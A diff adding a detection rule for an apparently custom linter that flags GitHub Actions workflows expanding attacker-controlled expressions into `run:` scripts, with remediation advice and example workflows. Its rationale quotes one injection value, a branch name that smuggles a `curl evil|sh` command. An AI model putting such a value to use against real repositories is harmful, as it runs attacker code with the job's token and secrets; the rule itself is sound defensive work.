@@ -1,0 +1,76 @@
+import { defineRule } from '@plumbline/core';
+import { allSteps, ghaDomain } from '@plumbline/lang-yaml';
+import { taints } from '../../lib/taint.js';
+import { resourceOf } from '../../lib/util.js';
+
+export default defineRule({
+  id: 'gha/no-template-injection-in-run',
+  domain: ghaDomain,
+  meta: {
+    title: 'Attacker-controlled expression expanded into a run script',
+    description:
+      'A `${{ }}` expression whose text an outsider chooses (an issue or pull request title or body, a branch name, a comment, a commit message, or an `env:`/step output derived from one) is pasted into a `run:` script before the shell sees it.',
+    rationale:
+      'GitHub substitutes `${{ }}` into the script text, so a branch named `a";curl evil|sh;"` or a title with `$(…)` becomes shell code running with the job token and secrets. This is the most exploited GitHub Actions weakness; high because the attacker needs nothing more than a fork or an issue.',
+    remediation:
+      'Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`. Never paste untrusted text into the script itself.',
+    category: 'security',
+    severity: 'high',
+    confidence: 'high',
+    aliases: ['zizmor:template-injection', 'CKV_GHA_2', 'poutine:injection', 'scorecard:Dangerous-Workflow'],
+    references: [
+      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
+      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
+    ],
+    examples: {
+      invalid: [
+        {
+          filename: '.github/workflows/triage.yml',
+          code: `on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo "New issue: \${{ github.event.issue.title }}"
+`,
+          errors: [{ line: 7, column: 28, endLine: 7, endColumn: 59 }],
+        },
+      ],
+      valid: [
+        {
+          filename: '.github/workflows/triage.yml',
+          code: `on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          TITLE: \${{ github.event.issue.title }}
+        run: |
+          echo "New issue: $TITLE"
+`,
+        },
+      ],
+    },
+  },
+  check(unit, ctx) {
+    for (const step of allSteps(unit)) {
+      if (!step.run) continue;
+      for (const expression of step.run.expressions) {
+        for (const taint of taints(expression, step)) {
+          const how = taint.via
+            ? `\`${taint.via}\`, which carries \`${taint.source}\`,`
+            : `\`${taint.source}\``;
+          ctx.report({
+            at: expression.loc,
+            message: `${how} is expanded into this \`run:\` script; whoever controls it can run commands in the job.`,
+            resource: resourceOf(step),
+            evidence: expression.body,
+          });
+          break;
+        }
+      }
+    }
+  },
+});
